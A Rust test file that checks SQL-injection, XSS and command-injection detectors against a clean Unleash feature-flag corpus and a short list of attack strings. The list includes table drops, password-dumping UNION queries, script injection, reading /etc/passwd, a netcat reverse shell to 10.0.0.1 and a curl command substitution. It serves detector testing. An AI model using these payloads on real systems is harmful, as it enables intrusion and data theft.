//! Injection signals against honest text from `testdata/`: the
//! Unleash specification's names and descriptions and the valid isemail
//! addresses must not be flagged (the published false-positive figures for
//! these corpora are 0).

use pr_security::signals::{command_injection_signal, sql_injection_signal, xss_signal};
use serde_json::Value;

use pr_test_support::testdata;

fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            for (key, v) in map {
                if let (true, Value::String(s)) = (
                    matches!(key.as_str(), "description" | "name" | "toggleName"),
                    v,
                ) {
                    out.push(s.clone());
                }
                strings(v, out);
            }
        }
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        _ => {}
    }
}

fn flagged(inputs: &[String]) -> Vec<String> {
    inputs
        .iter()
        .filter_map(|s| {
            let reason = sql_injection_signal(s)
                .reason()
                .or(xss_signal(s).reason())
                .or(command_injection_signal(s).reason())?;
            Some(format!("{reason}: {s}"))
        })
        .collect()
}

#[test]
fn unleash_strings_are_clean() {
    let index: Value = serde_json::from_slice(&testdata("feature-flags/index.json")).unwrap();
    let mut texts = Vec::new();
    for name in index.as_array().unwrap() {
        let file: Value = serde_json::from_slice(&testdata(&format!(
            "feature-flags/{}",
            name.as_str().unwrap()
        )))
        .unwrap();
        strings(&file, &mut texts);
    }
    texts.sort();
    texts.dedup();
    assert!(texts.len() > 500, "{}", texts.len());
    let hits = flagged(&texts);
    eprintln!(
        "injection signals on {} Unleash strings: {} flagged",
        texts.len(),
        hits.len()
    );
    assert!(hits.is_empty(), "{hits:#?}");
}

#[test]
fn classic_payloads_are_flagged() {
    // A few payloads of each kind, written for this test.
    for sql in [
        "' OR 1=1 --",
        "admin'#",
        "1; DROP TABLE users",
        "1 UNION SELECT username, password FROM users",
        "1 AND SLEEP(10)",
    ] {
        assert!(sql_injection_signal(sql).is_suspicious(), "{sql}");
    }
    for xss in [
        "<script>fetch('//x')</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg onload=alert(1)>",
        "javascript:alert(1)",
    ] {
        assert!(xss_signal(xss).is_suspicious(), "{xss}");
    }
    for cmd in [
        "; cat /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://x)",
        "`whoami`",
        "%0aid",
    ] {
        assert!(command_injection_signal(cmd).is_suspicious(), "{cmd}");
    }
}
